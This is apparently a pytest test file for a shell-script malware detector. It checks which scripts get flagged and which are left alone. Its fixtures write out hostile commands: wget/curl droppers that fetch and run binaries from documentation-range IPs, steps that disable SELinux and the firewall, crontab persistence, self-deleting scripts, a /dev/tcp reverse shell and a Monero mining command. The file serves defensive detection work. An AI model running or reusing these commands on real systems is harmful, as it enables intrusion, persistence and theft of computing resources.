from __future__ import annotations

import pytest

from pratique.content.base import Content
from pratique.content.identify import identify
from pratique.content.shell.script import ANALYSER

WALLET = "4" + "8" + "e" * 93


def marks(text, name="a.sh"):
    held = text.encode()
    return list(ANALYSER.find(Content(held, f"/tmp/{name}", identify(held, name))))


@pytest.mark.parametrize(
    ("mark", "text"),
    [
        (
            "script-drops-program",
            (
                "#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt\nfor a in mips arm7 x86 sh4; do\n"
                "wget http://198.51.100.1/$a; chmod 777 $a; ./$a; rm -f $a; done\n"
            ),
        ),
        (
            "script-drops-program",
            (
                "#!/bin/sh\nsetenforce 0; iptables -F\n"
                "wget http://198.51.100.1/k -O /dev/shm/k && chmod +x /dev/shm/k && /dev/shm/k\n"
            ),
        ),
        (
            "script-drops-program",
            '#!/bin/sh\necho IyEvYmluL3NoCmVjaG8gaGVsbG8K | base64 -d | bash\nrm -- "$0"\n',
        ),
        (
            "script-drops-program",
            (
                "#!/bin/sh\nsetenforce 0\npkill -f kdevtmpfsi\nexport HISTFILE=/dev/null\n"
                "curl -s http://203.0.113.9/x | sh\n"
            ),
        ),
        (
            "script-drops-program",
            (
                "#!/bin/bash\ncurl -s http://203.0.113.9/x | bash\n"
                'echo "* * * * * curl -s http://203.0.113.9/x | sh" | crontab -\nrm -f $0\n'
            ),
        ),
        (
            "script-drops-program",
            (
                "cd /tmp\nwget http://203.0.113.9/a.mips; chmod +x a.mips; ./a.mips\n"
                "wget http://203.0.113.9/a.arm7; chmod +x a.arm7; ./a.arm7\n"
                "wget http://203.0.113.9/a.i686; chmod +x a.i686; ./a.i686\nrm -f $0\n"
            ),
        ),
        ("script-connects-back", "bash -i >& /dev/tcp/203.0.113.9/99 0>&1\n"),
        ("script-mines", f"./x -o stratum+tcp://203.0.113.9:3333 -u {WALLET}\n# xmr\n"),
    ],
)
def test_points_at(mark, text):
    assert mark in {one.mark for one in marks(text) if one.confidence >= 0.7}


@pytest.mark.parametrize(
    "text",
    [
        "#!/bin/sh\ncurl -fsSL https://example.org/install.sh | sh\n",
        "#!/bin/sh\nwget https://example.org/a.tar.gz -O /tmp/a.tar.gz\ntar xf /tmp/a.tar.gz\n",
        "#!/bin/sh\ncrontab -l | grep -v old | crontab -\n",
        "#!/bin/sh\necho 'curl is needed'\nexit 1\n",
        "#!/bin/sh\nbase64 -d < key > /etc/app/key\n",
    ],
)
def test_leaves_alone(text):
    assert [one for one in marks(text) if one.confidence >= 0.6] == []


def test_one_more_odd_thing_is_a_doubt():
    (mark,) = marks("#!/bin/sh\ncurl -s https://example.org/i | sh\nufw disable\n")
    assert mark.confidence == 0.5


def test_other_files_are_not_asked_about():
    assert marks("bash -i >& /dev/tcp/203.0.113.9/99 0>&1\n", "notes.txt") == []


def test_lines_of_a_long_script():
    text = "#!/bin/sh\n" + "echo a line of no weight\n" * 4000
    (mark,) = marks(text + "bash -i >& /dev/tcp/203.0.113.9/99 0>&1\n")
    assert mark.line == 4002
